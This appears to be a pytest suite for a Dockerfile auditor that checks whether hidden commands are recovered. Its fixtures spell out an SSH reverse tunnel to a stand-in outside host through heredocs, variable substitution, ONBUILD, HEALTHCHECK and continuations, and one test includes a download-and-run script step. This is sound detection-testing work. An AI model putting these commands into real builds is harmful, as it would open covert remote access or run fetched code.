"""Dockerfiles: what a build runs and what its image starts."""

from __future__ import annotations

import pytest

from auditor.model.gap import Why
from auditor.model.unit import Language
from tests.read.carriers.readings import TUNNEL, effects_of, line_of, lines_of, read

QUOTED = ", ".join(f'"{word}"' for word in TUNNEL.split())


def effects(text: str) -> list[str]:
    return effects_of(text, Language.DOCKERFILE)


SPELLINGS = {
    "run": f"FROM a\nRUN {TUNNEL}",
    "lower case": f"from a\nrun {TUNNEL}",
    "exec form": f"FROM a\nRUN [{QUOTED}]",
    "continued": "FROM a\nRUN ssh -N \\\n  -R 2222:localhost:22 \\\n  agent@203.0.113.7",
    "comment inside": "FROM a\nRUN ssh -N \\\n# why\n  -R 2222:localhost:22 \\\n\n  agent@203.0.113.7\nRUN id",
    "other escape": "# escape=`\nFROM a\nRUN ssh -N `\n  -R 2222:localhost:22 agent@203.0.113.7",
    "flags": f"FROM a\nRUN --mount=type=cache,target=/c --network=host \\\n  {TUNNEL}",
    "heredoc": f"FROM a\nRUN <<EOF\nset -e\n{TUNNEL}\nEOF",
    "heredoc of python": f"FROM a\nRUN <<'EOF'\n#!/usr/bin/env python3\nimport os\nos.system('{TUNNEL}')\nEOF",
    "heredoc into python": f"FROM a\nRUN python3 <<EOF\nimport os\nos.system('{TUNNEL}')\nEOF",
    "two heredocs": f"FROM a\nRUN cat <<A && bash <<B\nx\nA\n{TUNNEL}\nB",
    "env": "FROM a\nENV A=ss\nENV B ${A}h\nRUN $B -N -R 2222:localhost:22 agent@203.0.113.7",
    "env of many": "FROM a\nENV P=2222 \\\n  H='203.0.113.7'\nRUN ssh -N -R $P:localhost:22 agent@${H}",
    "arg": "FROM a\nARG HOST=203.0.113.7\nRUN ssh -N -R 2222:localhost:22 agent@$HOST",
    "global arg": "ARG HOST=203.0.113.7\nFROM a\nARG HOST\nRUN ssh -N -R 2222:localhost:22 agent@$HOST",
    "onbuild": f"FROM a\nONBUILD RUN {TUNNEL}",
    "cmd": f"FROM a\nCMD {TUNNEL}",
    "cmd in exec form": f"FROM a\nCMD [{QUOTED}]",
    "entry point and cmd": 'FROM a\nENTRYPOINT ["ssh", "-N"]\nCMD ["-R", "2222:localhost:22", "agent@203.0.113.7"]',
    "healthcheck": f"FROM a\nHEALTHCHECK --interval=5m --timeout=3s CMD {TUNNEL}",
    "shell": f'FROM a\nSHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN {TUNNEL}',
    "copied heredoc": f"FROM a\nCOPY <<EOF /run.sh\n{TUNNEL}\nEOF\nCMD sh /run.sh",
    "copied heredoc, indented": f'FROM a\nCOPY <<-"EOF" /bin/start.sh\n\t{TUNNEL}\n\tEOF\nENTRYPOINT ["/bin/start.sh"]',
    "written, then run": f"FROM a\nWORKDIR /app\nRUN echo '{TUNNEL}' > run.sh\nRUN bash /app/run.sh",
    "later stage": f"FROM a AS build\nRUN true\nFROM b\nCOPY --from=build /x /y\nRUN {TUNNEL}",
    "stage built on": "FROM a AS one\nENV P=2222\nFROM one\nRUN ssh -N -R $P:localhost:22 agent@203.0.113.7",
    "carriage returns": f"FROM a\r\nRUN true && \\\r\n  {TUNNEL}\r\n",
}


@pytest.mark.parametrize("text", SPELLINGS.values(), ids=SPELLINGS.keys())
def test_the_command_is_recovered(text: str) -> None:
    """However the build or the image starts it, the command is read."""
    assert TUNNEL in effects(text)


def test_what_is_downloaded_and_run() -> None:
    """`ADD URL` writes a file from the network; running it is code fetched."""
    text = "FROM a\nWORKDIR /opt\nADD https://x.example/i.sh .\nRUN bash /opt/i.sh"
    assert "code.fetch https://x.example/i.sh bash" in effects(text)


def test_a_later_entry_point_replaces_an_earlier_one() -> None:
    """Only the last CMD of a stage is started, and ENTRYPOINT takes it as arguments."""
    assert effects("FROM a\nCMD whoami\nCMD id") == ["id"]
    assert effects('FROM a\nENTRYPOINT ["id"]\nENTRYPOINT []') == []


def test_an_argument_without_default_is_unknown() -> None:
    """A build argument is neither empty nor invented."""
    assert effects("FROM a\nARG HOST\nRUN ping $HOST")[0].startswith("ping %{")


def test_mention_is_not_use() -> None:
    """Labels, comments, copied files and exposed ports start nothing."""
    text = (
        f'# {TUNNEL}\nFROM a\nLABEL run="{TUNNEL}"\nCOPY ssh /bin/\nEXPOSE 22\nUSER app\nVOLUME /x\nENV DOC="{TUNNEL}"'
    )
    assert effects(text) == []


def test_places_point_to_the_line() -> None:
    """A command inside a long RUN is reported on its own line, comments counted."""
    text = f"FROM a\nRUN --network=none \\\n  true && \\\n  # why\n  {TUNNEL}\nRUN <<EOF\ntrue\nid -u\nEOF"
    reading = read(text, Language.DOCKERFILE)
    assert line_of(reading, TUNNEL) == 5
    assert line_of(reading, "id -u") == 8


def test_powershell_is_not_read_as_bash() -> None:
    """Another shell is started as the program it is."""
    text = 'FROM a\nSHELL ["powershell", "-Command"]\nRUN Get-Date'
    assert not any(line.startswith("Get-Date") for line in lines_of(read(text, Language.DOCKERFILE)))


HOSTILE = {
    "heredoc without end": "FROM a\nRUN <<EOF\n" + "x\n" * 1_000,
    "many heredocs": "FROM a\nRUN " + "<<E " * 20_000 + "\nx\n",
    "long line": "FROM a\nENV " + "A=1 " * 100_000,
    "long array": "FROM a\nRUN [" + '"a",' * 3_000,
    "deep array": "FROM a\nRUN " + "[" * 100_000,
    "all continued": "RUN a\\\n" * 50_000,
    "NUL": "FROM a\nRUN \0\0\n",
    "quotes": "FROM a\nENV A=" + '"' * 50_001 + "\nENV B=" + "\\" * 50_001,
    "doubling": "FROM a\nENV A=xxxxxxxxxx\n" + "ENV A=$A$A$A$A\n" * 40 + "RUN echo $A",
    "flags": "FROM a\nRUN " + "--a=b " * 50_000,
    "nested triggers": "FROM a\n" + "ONBUILD " * 5_000 + "RUN id",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_texts_are_survived(text: str) -> None:
    """Nothing raises and nothing takes long."""
    read(text, Language.DOCKERFILE)


def test_more_instructions_than_are_read_is_a_gap() -> None:
    """Past the limit of units nothing is silent."""
    reading = read("FROM a\n" + "RUN id\n" * 250, Language.DOCKERFILE)
    assert Why.TOO_MANY in {gap.why for gap in reading.gaps}
